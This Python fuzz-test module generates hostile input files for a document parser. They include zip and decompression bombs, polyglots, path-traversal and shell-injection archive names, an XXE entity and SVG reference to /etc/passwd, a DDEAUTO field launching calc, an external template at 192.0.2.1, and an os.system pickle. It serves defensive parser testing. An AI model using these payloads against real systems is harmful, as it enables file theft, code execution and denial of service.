"""Files of two formats, containers in containers, and formats that no parser takes; the rest of what the parts leave out."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import sqlite3
import struct
import tarfile
import tempfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.fuzz.hostile.archives import tarred, zipped
from tests.fuzz.hostile.pdfs import pdf, stream

TEXT = "The tenant shall pay the rent on the first day of each month.\n"
_RAW = TEXT.encode()
_MAIL = "From: a@example.org\nTo: b@example.org\nSubject: rent\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMIME-Version: 1.0\n"


def files() -> Iterator[tuple[str, bytes]]:
    yield from _two_formats()
    yield from _nested()
    yield from _entries()
    yield from _packages()
    yield from _pages()
    yield from _pictures()
    yield from _letters()
    yield from _mails()
    yield from _unread()


def _two_formats() -> Iterator[tuple[str, bytes]]:
    """A file that two parsers would take, by its begin and by its end."""
    archive = zipped(("a.txt", _RAW))
    document = pdf({4: stream("BT /F1 9 Tf 9 9 Td (rent) Tj ET")})
    yield "pdf-then-zip.pdf", document + archive
    yield "zip-then-pdf.zip", archive + document
    yield "zip-with-a-pdf-as-its-comment.zip", _commented(archive, document[:60_000])
    yield "mail-then-zip.eml", f"{_MAIL}\n{TEXT}".encode() + archive
    yield "picture-then-zip.png", b"\x89PNG\r\n\x1a\n" + bytes(100) + archive
    yield "page-then-zip.html", b"<html><body>" + _RAW + archive
    yield "rtf-then-pdf.rtf", b"{\\rtf1 " + _RAW + b"}" + document
    yield "gzip-then-zip.gz", gzip.compress(_RAW) + archive
    yield "tar-of-a-zip-at-once.tar", tarred(("a.txt", _RAW)) + archive
    yield "xml-then-mail.xml", b"<?xml version='1.0'?><x>law</x>\n" + f"{_MAIL}\n{TEXT}".encode()
    yield "mail-that-is-a-mailbox.mbox", b"From a\n" * 9 + f"{_MAIL}\n{TEXT}".encode() * 2_000
    yield "git-bundle-in-a-mail.eml", f"{_MAIL}\n# v2 git bundle\n{'0' * 40} HEAD\n\nPACK".encode()


def _commented(archive: bytes, comment: bytes) -> bytes:
    return archive[:-2] + struct.pack("<H", len(comment)) + comment


def _nested() -> Iterator[tuple[str, bytes]]:
    """Containers in containers of every kind, each packed well."""

    def seven(data: bytes) -> bytes:
        import py7zr

        buffer = io.BytesIO()
        with py7zr.SevenZipFile(buffer, "w") as archive:
            archive.writef(io.BytesIO(data), "inner")
        return buffer.getvalue()

    def mailed(data: bytes) -> bytes:
        part = "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=inner\nContent-Transfer-Encoding: base64\n\n"
        return (
            f'{_MAIL}Content-Type: multipart/mixed; boundary="b"\n\n--b\n{part}'.encode()
            + base64.encodebytes(data)
            + b"\n--b--\n"
        )

    def boxed(data: bytes) -> bytes:
        return b"From a@b.c Mon Jan  1 00:00:00 2024\n" + mailed(data) + b"\n"

    def embedded(data: bytes) -> bytes:
        names = "/Names<</EmbeddedFiles<</Names[(inner)6 0 R]>>>>"
        body = data.decode("latin-1")
        return pdf(
            {
                1: f"<</Type/Catalog/Pages 2 0 R{names}>>",
                6: "<</Type/Filespec/F(inner)/EF<</F 7 0 R>>>>",
                7: f"<</Type/EmbeddedFile/Length {len(data)}>>stream\n{body}\nendstream",
            }
        )

    def worded(data: bytes) -> bytes:
        return zipped(("[Content_Types].xml", b"<Types/>"), ("word/embeddings/a.bin", data))

    wrappers: dict[str, Callable[[bytes], bytes]] = {
        "zip": lambda data: zipped(("inner", data)),
        "tar": lambda data: tarred(("inner", data)),
        "gz": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "7z": seven,
        "eml": mailed,
        "mbox": boxed,
        "pdf": embedded,
        "docx": worded,
    }
    for name, wrap in wrappers.items():
        deep = _RAW
        for _ in range(30 if name in ("7z", "pdf") else 60):
            deep = wrap(deep)
            if len(deep) > 30_000_000:
                break
        yield f"60-deep.{name}", deep
    every = _RAW
    for wrap in wrappers.values():
        every = wrap(every)
    yield "one-of-each.docx", every
    zeros = bytes(40_000_000)
    for name in ("gz", "bz2", "xz", "7z", "zip"):
        twice = wrappers[name](wrappers[name](zeros))
        yield f"zeros-twice.{name}", twice
        yield f"zeros-twice-in-a-mail-{name}.eml", mailed(twice)
        yield f"zeros-twice-in-a-pdf-{name}.pdf", embedded(twice)
    fan = zipped(*((f"{n}.txt", _RAW * 1_000) for n in range(50)))
    for _ in range(4):
        fan = zipped(*((f"{n}.zip", fan) for n in range(12)))
    yield "fan-of-1000000-files.zip", fan
    itself = mailed(mailed(zipped(*((f"{n}.eml", mailed(_RAW)) for n in range(5_000)))))
    yield "mails-in-a-zip-in-mails.eml", itself


def _entries() -> Iterator[tuple[str, bytes]]:
    """Archives whose two directories say different things, and names that a file system takes otherwise."""
    data = bytearray(zipped(("a.txt", _RAW), ("b.txt", _RAW)))
    data[30:35] = b"x.exe"
    yield "local-name-differs.zip", bytes(data)
    kernel = zlib.compress(bytes(21_000_000), 9)[2:-4]
    yield "overlapping-quoted.zip", _overlapping(kernel, 3_000)
    yield (
        "names-of-all-systems.zip",
        zipped(
            *((name, _RAW) for name in _NAMES),
            *((name.encode().decode("cp437"), _RAW) for name in _NAMES),
        ),
    )
    yield "names-of-all-systems.tar", tarred(*((name.replace("\0", "0"), _RAW) for name in _NAMES))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for at in range(2_000):
            info = tarfile.TarInfo(f"l{at}")
            info.type, info.linkname = (tarfile.LNKTYPE, f"l{(at + 1) % 2_000}")
            archive.addfile(info)
    yield "hard-links-in-a-ring.tar", buffer.getvalue()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("n" * 5_000_000))
        folder = tarfile.TarInfo("folder")
        folder.type, folder.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(folder)
        inside = tarfile.TarInfo("folder/passwd")
        inside.size = len(_RAW)
        archive.addfile(inside, io.BytesIO(_RAW))
    yield "name-of-5-mb-and-file-behind-a-link.tar", buffer.getvalue()
    blocks = tarred(("a.txt", _RAW))[:512]
    yield "headers-without-contents.tar", blocks * 30_000
    many = lzma.compress(_RAW) * 50_000
    yield "50000-streams.xz", many
    yield "members-of-nothing.gz", gzip.compress(b"") * 500_000
    yield "name-without-an-end.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"n" * 20_000_000
    index = bytearray(lzma.compress(_RAW))
    index[-8:-4] = b"\xff\xff\xff\x7f"
    yield "index-of-8-gb.xz", bytes(index)
    yield (
        "window-of-128-tb.zst",
        b"\x28\xb5\x2f\xfd\x04\xf8" + bytes(3) + b"\x02\x00\x00" * 100_000,
    )


_NAMES = (
    "a\0.txt", "../a.txt", "..\\..\\a.txt", "/etc/passwd", "C:/a.txt", "\\\\host\\share\\a.txt", "con.txt", "a.txt.", "a.txt ", "a:b.txt", "./././a.txt",
    "a//b.txt", "\u202etxt.exe", "a\nb.txt", "\ud7ff\uffff.txt", "e\u0301.txt", "é.txt", "A.TXT", "a.txt", "~/.ssh/a", "-rf", "$(x).txt", "`x`.txt", "..", ".",
)  # fmt: skip


def _overlapping(kernel: bytes, count: int) -> bytes:
    """Entries that all unpack the same bytes (Fifield's bomb)."""
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(kernel), 21_000_000, 1, 0
    )
    body = local + b"a" + kernel
    directory = b"".join(
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(kernel), 21_000_000, 4, 0, 0, 0, 0, 0, 0,
        )
        + f"{at:04}".encode()
        for at in range(count)
    )  # fmt: skip
    return (
        body
        + directory
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), 0)
    )


def _packages() -> Iterator[tuple[str, bytes]]:
    """Office packages with parts that name each other, or that are there twice."""
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>{}</Types>'
    main = "application/vnd.openxmlformats-officedocument.{}.main+xml"
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

    def package(kind: str, part: str, *parts: tuple[str, str]) -> bytes:
        override = f'<Override PartName="/{part}" ContentType="{main.format(kind)}"/>'
        root = relations.format(
            f'<Relationship Id="r" Type="{office}officeDocument" Target="{part}"/>'
        )
        return zipped(
            ("[Content_Types].xml", types.format(override).encode()),
            ("_rels/.rels", root.encode()),
            *((name, text.encode()) for name, text in parts),
        )

    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    paragraph = f"<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>"
    body = f"<w:document {word}><w:body>{paragraph}</w:body></w:document>"
    documents = {
        "part-twice": (("word/document.xml", body), ("word/document.xml", body * 2)),
        "part-of-other-case": (("WORD/Document.XML", body),),
        "entities": (
            ("word/document.xml", f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>{body.replace(TEXT, "&e;")}'),
        ),
        "alternate-deep": (
            (
                "word/document.xml",
                body.replace(paragraph, "<w:sdt><w:sdtContent>" * 50_000 + paragraph),
            ),
        ),
        "relations-to-itself": (
            ("word/document.xml", body),
            (
                "word/_rels/document.xml.rels",
                relations.format(
                    "".join(f'<Relationship Id="r{n}" Type="{office}header" Target="document.xml"/>' for n in range(5_000))
                ),
            ),
        ),
        "relations-outside": (
            ("word/document.xml", body),
            (
                "word/_rels/document.xml.rels",
                relations.format(
                    f'<Relationship Id="r" Type="{office}attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
                    f'<Relationship Id="s" Type="{office}header" Target="../../../../../etc/passwd"/>'
                ),
            ),
        ),
        "field-of-a-command": (
            (
                "word/document.xml",
                body.replace(paragraph, f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\x "/k calc"</w:instrText></w:r></w:p>{paragraph}' * 5_000),
            ),
        ),
        "vba": (("word/document.xml", body), ("word/vbaProject.bin", "\xd0\xcf" * 5_000)),
    }  # fmt: skip
    for name, parts in documents.items():
        yield f"{name}.docx", package("wordprocessingml.document", "word/document.xml", *parts)
    sheet = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    workbook = f"<workbook {sheet}><sheets>{{}}</sheets></workbook>"
    one = '<sheet name="a" sheetId="1" r:id="r1"/>'
    of_book = relations.format(
        f'<Relationship Id="r1" Type="{office}worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{office}sharedStrings" Target="sharedStrings.xml"/>'
    )
    strings = f"<sst {sheet}><si><t>{'law ' * 20_000}</t></si></sst>"
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_000))
    for name, (sheets, shared, rows) in {
        "one-string-20000-times": (one, strings, cells),
        "one-sheet-10000-times": (one * 10_000, strings, cells[:500_000]),
        "string-of-32-bits": (one, strings, '<row><c t="s"><v>4294967295</v></c><c t="s"><v>-1</v></c></row>'),
        "strings-claimed": (
            one, strings.replace("<sst ", '<sst count="4294967295" uniqueCount="4294967295" '), cells[:1000] + "</c></row>"),
        "merged": (
            one, strings, cells[:64] + "</c></row>" + "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 20_000 + "</mergeCells>"),
        "last-cell": (one, strings, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' * 2_000),
    }.items():  # fmt: skip
        yield (
            f"{name}.xlsx",
            package(
                "spreadsheetml.sheet",
                "xl/workbook.xml",
                ("xl/workbook.xml", workbook.format(sheets)),
                ("xl/_rels/workbook.xml.rels", of_book),
                ("xl/sharedStrings.xml", shared),
                (
                    "xl/worksheets/sheet1.xml",
                    f"<worksheet {sheet}><sheetData>{rows}</sheetData></worksheet>",
                ),
            ),
        )
    container = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="{}" media-type="application/oebps-package+xml"/></rootfiles></container>'
    spine = '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="{}" media-type="application/xhtml+xml"/></manifest><spine>{}</spine></package>'
    for name, (root, href, times) in {
        "one-page-100000-times": ("a.opf", "a.xhtml", 100_000),
        "pages-outside": ("../../a.opf", "../../../etc/passwd", 1),
        "page-is-the-list": ("a.opf", "a.opf", 100),
        "page-of-the-network": ("a.opf", "http://192.0.2.1/a", 1),
        "page-named-by-escapes": ("a%2eopf", "%2e%2e/%00a.xhtml#" + "x" * 100_000, 1),
    }.items():
        yield (
            f"{name}.epub",
            zipped(
                ("mimetype", b"application/epub+zip"),
                ("META-INF/container.xml", container.format(root).encode()),
                ("a.opf", spine.format(href, '<itemref idref="a"/>' * times).encode()),
                ("a.xhtml", f"<html><body><p>{TEXT * 20}</p></body></html>".encode()),
            ),
        )


def _pages() -> Iterator[tuple[str, bytes]]:
    """PDF: streams of objects and cross references that name themselves and each other."""
    body = "1 0 2 9 <</Type/Catalog/Pages 2 0 R>> <</Type/Pages/Kids[3 0 R]/Count 1>>"
    objects: dict[str, dict[int, str | bytes]] = {
        "objects-in-objects": {
            6: f"<</Type/ObjStm/N 2/First 8/Extends 7 0 R/Length {len(body)}>>stream\n{body}\nendstream",
            7: f"<</Type/ObjStm/N 2/First 8/Extends 6 0 R/Length {len(body)}>>stream\n{body}\nendstream",
        },
        "objects-of-32-bits": {
            6: f"<</Type/ObjStm/N 2147483647/First 2147483647/Length {len(body)}>>stream\n{body}\nendstream"
        },
        "length-of-a-reference-in-itself": {
            4: "<</Length 6 0 R>>stream\nBT ET\nendstream",
            6: "<</Length 6 0 R>>stream\n5\nendstream",
        },
        "filters-that-are-references": {
            4: "<</Length 9/Filter 6 0 R/DecodeParms 6 0 R>>stream\nBT ET\nendstream",
            6: "[6 0 R 6 0 R]",
        },
        "predictor-of-32-bits": {
            4: stream(
                "BT ET",
                "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>",
            )
        },
        "crypt-filter": {
            4: stream("BT ET", "/Filter[/Crypt/FlateDecode]/DecodeParms[<</Name/x>>]")
        },
    }
    for name, entries in objects.items():
        yield f"{name}.pdf", pdf(entries)
    document = pdf({4: stream("BT /F1 9 Tf 9 9 Td (rent) Tj ET")})
    for place in (0, 1, 9, 2**31, 2**63, 2**64):
        yield f"starts-at-{place}.pdf", document + f"\nstartxref\n{place}\n%%EOF".encode()
    table = document.rindex(b"xref\n0")
    ring = (
        document + f"\ntrailer<</Root 1 0 R/Prev {table}/Prev {len(document)}>>\n".encode() * 2_000
    )
    yield "trailers-in-a-ring.pdf", ring
    yield "100-headers.pdf", b"%PDF-1.7\n" * 100_000 + document
    form = "<html><body>" + "<object data='a.pdf'>" * 50_000 + TEXT
    yield "objects-deep.html", form.encode()
    yield "declared-deep.html", b"<!--" * 300_000 + b"<![CDATA[" * 100_000 + _RAW
    yield "shadow-roots.html", (b"<template shadowrootmode=open>" * 30_000) + _RAW
    yield "select-in-table-in-svg.html", (b"<svg><desc><table><select><math><mi>" * 20_000) + _RAW
    huge = "x" * 9_000_000
    yield "value-of-9-mb.html", f'<html><p title="{huge}">{TEXT}'.encode()
    yield "name-of-9-mb.xml", f"<a{huge}>{TEXT}</a{huge}>".encode()
    spaces = " ".join(f'xmlns:n{at}="urn:{at}"' for at in range(60_000))
    yield "namespaces-60000.xml", f"<a {spaces}><b>{TEXT}</b></a>".encode()
    one = "".join(f'<b xmlns="urn:{at}"><c xmlns:d="urn:{at}" d:e="f"/>' for at in range(250))
    yield "namespaces-deep.xml", f"<a>{one}{TEXT}{'</b>' * 250}</a>".encode()
    many = "".join(f"<!ATTLIST a b{at} CDATA '{'x' * 900}'>" for at in range(1_000))
    yield "defaults.xml", f"<!DOCTYPE a [{many}]><a>{'<a/>' * 20_000}{TEXT}</a>".encode()
    nested = "".join(f'<!ENTITY % p{at} "&#37;p{at - 1};&#37;p{at - 1};">' for at in range(1, 60))
    yield "parameters.xml", f'<!DOCTYPE a [<!ENTITY % p0 "x">{nested} %p59;]><a>{TEXT}</a>'.encode()
    for charset in ("utf-7", "ebcdic-cp-us", "utf-16", "ucs-4", "iso-10646-ucs-4"):
        yield (
            f"declared-as-{charset}.xml",
            f'<?xml version="1.0" encoding="{charset}"?><a>{TEXT}</a>'.encode(),
        )


def _pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures that claim the size of a country."""
    size = struct.pack(">II", 60_000, 60_000)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size + b"\x10\x06\0\0\0")
    line = zlib.compress(bytes(300_000_000), 9)
    yield "lines-of-300-mb.png", head + chunk(b"IDAT", line) + chunk(b"IEND", b"")
    small = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">II", 9, 9) + b"\x08\0\0\0\0")
    yield (
        "texts-of-300-mb.png",
        small + chunk(b"zTXt", b"a\0\0" + line) + chunk(b"iCCP", b"a\0\0" + line),
    )
    yield "chunks.png", small + chunk(b"tEXt", b"a\0b") * 200_000
    yield (
        "frames.png",
        small + chunk(b"acTL", b"\x7f\xff\xff\xff" * 2) + chunk(b"fcTL", bytes(26)) * 50_000,
    )
    codestream = (
        b"\xff\x4f\xff\x51"
        + struct.pack(">HHIIIIIIIIH", 41, 0, 2**31, 2**31, 0, 0, 1, 1, 0, 0, 1)
        + b"\7\1\1"
    )
    yield (
        "tiles-of-one-point.jp2",
        b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\0jp2c" + codestream,
    )
    yield "tiles-of-one-point.j2k", codestream + bytes(1_000)
    yield "16383.webp", b"RIFF\x24\0\0\0WEBPVP8L\x17\0\0\0\x2f" + b"\xff\xff\xff\x0f" + bytes(18)
    yield (
        "frames.webp",
        b"RIFF\xff\xff\xff\x7fWEBPVP8X\x0a\0\0\0\x02\0\0\0"
        + b"\xff" * 6
        + (b"ANMF\x18\0\0\0" + bytes(24)) * 50_000,
    )
    tags = (
        struct.pack("<HHII", 256, 4, 1, 2**32 - 1)
        + struct.pack("<HHII", 257, 4, 1, 2**32 - 1)
        + struct.pack("<HHII", 273, 4, 2**32 - 1, 8)
    )
    yield "strips-of-32-bits.tif", b"II*\0\x08\0\0\0\x03\0" + tags + b"\x08\0\0\0"
    yield "folders-in-a-ring.tif", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"
    yield "folders-of-64-bits.tif", b"II+\0\x08\0\0\0" + b"\xff" * 8 + bytes(64)
    yield (
        "segments.jpg",
        b"\xff\xd8"
        + b"\xff\xe1\xff\xff"
        + b"Exif\0\0II*\0\x08\0\0\0\xff\xff"
        + bytes(65_520)
        + b"\xff\xfe\0\2" * 200_000
        + b"\xff\xd9",
    )
    yield (
        "scans.jpg",
        b"\xff\xd8\xff\xc2\0\x0b\x08\xff\xff\xff\xff\1\1\x11\0"
        + (b"\xff\xda\0\x08\1\1\0\0\x3f\0" + b"\0") * 20_000
        + b"\xff\xd9",
    )
    yield (
        "runs.bmp",
        b"BM"
        + struct.pack("<IIIIiiHHIIIIII", 99, 0, 54, 40, 2**31 - 1, -(2**31), 1, 8, 1, 0, 0, 0, 0, 0)
        + b"\xff\0" * 100_000,
    )
    yield (
        "frames.gif",
        b"GIF89a\xff\xff\xff\xff\xf0\0\0\0\0\0\xff\xff\xff"
        + (b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\1\0\0") * 50_000
        + b";",
    )
    yield (
        "codes.gif",
        b"GIF89a\x09\0\x09\0\xf0\0\0"
        + b"\x2c"
        + bytes(4)
        + b"\x09\0\x09\0\0\x0c"
        + (b"\xff" * 256) * 20_000
        + b"\0;",
    )
    yield (
        "vectors.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'>"
        + b"<use href='#a'/>" * 50_000
        + b"<image href='file:///etc/passwd'/><text>%s</text></svg>" % _RAW,
    )
    yield (
        "sizes.ico",
        b"\0\0\1\0\xff\xff" + b"\0\0\0\0\1\0\x20\0\xff\xff\xff\x7f\x16\0\0\0" * 65_535,
    )
    yield "records.wmf", b"\xd7\xcd\xc6\x9a" + bytes(18) + b"\1\0\x09\0\0\3" + b"\xff" * 100_000
    yield "records.emf", b"\1\0\0\0" + struct.pack("<I", 88) + bytes(32) + b" EMF" + b"\xff" * 1_000


def _letters() -> Iterator[tuple[str, bytes]]:
    """Letters that normalisation moves, joins or counts again and again."""
    for name, text in {
        "marks-in-disorder": "a" + "\u0315\u0300\u05ae\u0f71\u3099" * 300_000,
        "marks-after-each-letter": ("a" + "\u0300" * 31) * 60_000,
        "hangul-in-parts": "\u1100\u1161\u11a8" * 400_000,
        "excluded-from-composition": "\u0958\u2adc\ufb1d" * 300_000,
        "joiners": ("a\u200d" * 400_000) + TEXT,
        "isolates-without-an-end": "\u2066" * 500_000 + TEXT,
        "blanks-of-all-scripts": "\u00a0\u1680\u2000\u2028\u202f\u205f\u3000\u180e" * 200_000
        + TEXT,
        "minus-signs-and-dashes": "\u2010\u2011\u2012\u2013\u2014\u2015\u2212" * 200_000 + TEXT,
        "digits-of-40-scripts": "".join(chr(c) for c in range(0x110000) if chr(c).isdigit()) * 500,
        "case-without-an-end": "ŉǰΐΰẞßſK" * 150_000,
        "article-of-letters-alike": "Аrtісlе 1\n\nlaw\n\n" * 30_000,
        "sections-of-signs": "§§§ 1 ff. i.V.m. " * 60_000,
        "numbers-joined": "1.1.1.1.1.1.1.1.1." * 60_000,
        "roman-numbers": "IVXLCDM" * 200_000,
        "citations-joined": "C-1/20,C-1/20," * 80_000,
        "one-paragraph-of-acts": "Regulation (EU) 2016/679, Article 6(1)(f), " * 30_000,
    }.items():
        yield f"{name}.txt", text.encode("utf-8", "surrogatepass")
    rows = "\n".join(json.dumps({"text": TEXT, "n": n}) for n in range(60_000))
    yield "lines.jsonl", rows.encode()
    yield "deep-objects.json", b'{"a":' * 300_000
    yield "number-of-5-mb.json", b"[" + b"9" * 5_000_000 + b"]"
    yield "table-of-one-quote.csv", b'a,"' + b"x\n" * 4_000_000
    yield "deep-list.yaml", b"- " * 200_000 + b"law"
    yield "unread.rtf", b"{\\rtf1" + b"{\\*\\x" * 200_000 + _RAW
    yield "binary-of-2-gb.rtf", b"{\\rtf1 \\bin2147483647 " + _RAW * 100 + b"}"
    yield "unicode-skips.rtf", b"{\\rtf1\\uc999999999 \\u8217 " + _RAW + b"\\uc-1\\u-99999999 }"
    yield (
        "objects.rtf",
        b"{\\rtf1" + b"{\\object\\objdata " * 30_000 + b"d0cf11e0" * 30_000 + b"}" + _RAW,
    )
    yield "upr.rtf", b"{\\rtf1" + b"{\\upr{a}{\\*\\ud{" * 30_000 + _RAW


def _mails() -> Iterator[tuple[str, bytes]]:
    """Mails whose parts are many, deep, or of two minds."""
    plain = f"Content-Type: text/plain\n\n{TEXT}"
    for name, count in {"2000-in-each-other": 2_000, "200-in-each-other": 200}.items():
        inner = plain
        for at in range(count):
            inner = (
                f"Content-Type: multipart/mixed; boundary=b{at}\n\n--b{at}\n{inner}\n--b{at}--\n"
            )
            if len(inner) > 2_000_000:
                break
        yield f"{name}.eml", (_MAIL + inner).encode()
    parts = "".join(
        f"--b\nContent-Type: text/plain; charset=utf-8; a{at}=b\n\n{TEXT}" for at in range(100_000)
    )
    yield (
        "parts-that-differ-100000.eml",
        f"{_MAIL}Content-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n".encode(),
    )
    attached = "".join(
        f"--b\nContent-Type: message/rfc822\n\n{_MAIL}Message-ID: <{at}@b>\n\n{TEXT}\n"
        for at in range(21_000)
    )
    yield (
        "messages-21000.eml",
        f"{_MAIL}Content-Type: multipart/mixed; boundary=b\n\n{attached}--b--\n".encode(),
    )
    yield (
        "signed-and-encrypted.eml",
        f'{_MAIL}Content-Type: multipart/encrypted; protocol="x"; boundary=b\n\n--b\n{plain}\n--b\n{plain}\n--b--'.encode(),
    )
    for name, head in {
        "two-boundaries": "Content-Type: multipart/mixed; boundary=a; boundary=b",
        "two-types": "Content-Type: text/plain\nContent-Type: multipart/mixed; boundary=b",
        "two-encodings": "Content-Transfer-Encoding: base64\nContent-Transfer-Encoding: 8bit\nContent-Type: text/plain",
        "name-by-words": "Content-Type: text/plain; name==?utf-8?b?Li4vLi4vZXRjL3Bhc3N3ZA==?=",
        "name-of-nul": "Content-Disposition: attachment; filename*=utf-8''a%00.txt%0a%0d..%2f..%2fx",
    }.items():
        yield f"{name}.eml", f"{_MAIL}{head}\n\n--b\n{plain}\n--a\n{plain}\n--b--\n".encode()
    begins = "".join(f"begin 644 {'x' * 200}{at}\n#86)C\n`\nend\n" for at in range(30_000))
    yield "files-in-the-text-30000.eml", f"{_MAIL}\n{begins}".encode()
    related = f"{_MAIL}Content-Type: multipart/related; boundary=b\n\n"
    part = "--b\nContent-Type: text/html\n\n<p>law\n"
    yield "parts-of-a-page.mht", (related + part * 5_000).encode()


def _unread() -> Iterator[tuple[str, bytes]]:
    """Formats that Lexdesk does not read: named as such, and not opened."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.sqlite"
        connection = sqlite3.connect(path)
        connection.execute(
            "CREATE VIEW a AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM n) SELECT x FROM n"
        )
        connection.commit()
        connection.close()
        yield "database.txt", path.read_bytes()
    yield from {
        "table.parquet": b"PAR1" + b"\xff" * 5_000 + struct.pack("<I", 2**31 - 1) + b"PAR1",
        "table.arrow": b"ARROW1\0\0" + b"\xff\xff\xff\xff\xff\xff\xff\x7f" * 1_000 + b"ARROW1",
        "font.ttf": b"\0\1\0\0\xff\xff" + b"glyf\xff\xff\xff\xff" * 5_000,
        "font.woff2": b"wOF2" + b"\xff" * 5_000,
        "links.lnk": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\xff" * 5_000,
        "link.url": b"[InternetShortcut]\nURL=file://192.0.2.1/x\nIconFile=\\\\192.0.2.1\\x\n",
        "entry.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c true\n",
        "program.elf": b"\x7fELF" + b"\xff" * 5_000,
        "class.class": b"\xca\xfe\xba\xbe" + b"\xff" * 5_000,
        "pickle.pkl": b"\x80\x04cos\nsystem\n(S'true'\ntR." * 50,
        "array.npy": b"\x93NUMPY\1\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (2147483647,)}"
        + bytes(500),
        "model.onnx": b"\x08\x07\x12\x05" + b"\xff" * 5_000,
        "image.iso": bytes(32_768) + b"\1CD001\1" + b"\xff" * 5_000,
        "disk.vmdk": b"KDMV" + b"\xff" * 5_000,
        "package.deb": b"!<arch>\ndebian-binary   " + b"9" * 5_000,
        "cabinet.cab": b"MSCF" + b"\xff" * 5_000,
        "outlook.pst": b"!BDN" + b"\xff" * 5_000,
        "help.chm": b"ITSF" + b"\xff" * 5_000,
        "book.mobi": bytes(60) + b"BOOKMOBI" + b"\xff" * 5_000,
        "book.djvu": b"AT&TFORM\xff\xff\xff\xffDJVU" + b"\xff" * 5_000,
        "script.ps": b"%!PS\n" + b"{ } loop\n" * 20_000,
        "library.sqlite": b"SQLite format 3\0" + b"\xff" * 50_000,
        "core.wasm": b"\0asm\1\0\0\0" + b"\xff" * 5_000,
    }.items()
